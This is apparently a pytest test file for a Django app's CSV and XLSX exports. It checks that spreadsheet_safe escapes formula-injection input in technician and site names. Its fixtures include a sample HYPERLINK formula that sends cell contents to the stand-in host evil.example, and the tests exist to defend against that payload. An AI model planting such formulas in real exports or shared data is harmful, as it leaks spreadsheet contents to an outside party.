"""Formula injection (OWASP "CSV injection"): every CSV and XLSX export puts its cells through
``careerladder.core.exports.spreadsheet_safe``, so text typed as a formula arrives as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from careerladder.core.exports import spreadsheet_safe
from tests.factories import SiteFactory, TechnicianFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
NAMES = [HYPERLINK, "@SUM(1)", "-2+3"]
ESCAPED = ['\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "'@SUM(1)", "'-2+3"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\0=1", "'\0=1"),
        ("Riverside", "Riverside"),
        ("A-1", "A-1"),  # only a leading trigger counts
        ("", ""),
        (-5, -5),  # real numbers stay numbers, negative or not
        (Decimal("-2.50"), Decimal("-2.50")),
        (12.5, 12.5),
        (None, None),
        (dt.date(2025, 3, 1), dt.date(2025, 3, 1)),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.fixture
def formula_technicians(site_a):
    for number, name in enumerate(NAMES, start=1):
        TechnicianFactory(site=site_a, last_name=name, first_name=name, employee_id=f"X-{number}")


def matrix_rows_by_employee(rows) -> dict[str, list]:
    return {row[0]: list(row[1:3]) for row in rows[1:]}


def test_training_matrix_csv_escapes_names(client_for, hr_user, formula_technicians):
    response = client_for(hr_user).get("/training/matrix.csv", {"site": "", "kind": "program"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert matrix_rows_by_employee(rows) == {f"X-{n}": [e, e] for n, e in enumerate(ESCAPED, start=1)}


def test_training_matrix_xlsx_escapes_names(client_for, hr_user, formula_technicians):
    response = client_for(hr_user).get("/training/matrix.xlsx", {"kind": "program"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert matrix_rows_by_employee(rows) == {f"X-{n}": [e, e] for n, e in enumerate(ESCAPED, start=1)}
    # No cell of the sheet is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.fixture
def formula_sites(db):
    sites = []
    for number, name in enumerate(NAMES, start=1):
        site = SiteFactory(code=f"F{number}", name=name)
        TechnicianFactory(site=site, hire_date=dt.date(2024, 1, 15), employee_id=f"F-{number}")
        sites.append(site)
    return sites


def test_kpi_report_csv_escapes_site_names(client_for, hr_user, formula_sites):
    response = client_for(hr_user).get("/reports/kpis.csv", {"start": "2025-03-01", "end": "2025-03-31"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    by_code = {row[1]: row[2] for row in rows[1:] if row[0] == "site"}
    assert by_code == {"F1": ESCAPED[0], "F2": ESCAPED[1], "F3": ESCAPED[2]}


def test_kpi_report_xlsx_escapes_site_names_and_keeps_numbers_numeric(client_for, hr_user, formula_sites):
    response = client_for(hr_user).get("/reports/kpis.xlsx", {"start": "2025-03-01", "end": "2025-03-31"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    sites = {row[1]: row for row in rows[1:] if row[0] == "site"}
    assert {code: row[2] for code, row in sites.items()} == {"F1": ESCAPED[0], "F2": ESCAPED[1], "F3": ESCAPED[2]}
    # One technician hired in 2024 at each site: headcount 1 at the start, as a number.
    assert [sites[code][header.index("headcount_start")] for code in ("F1", "F2", "F3")] == [1, 1, 1]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
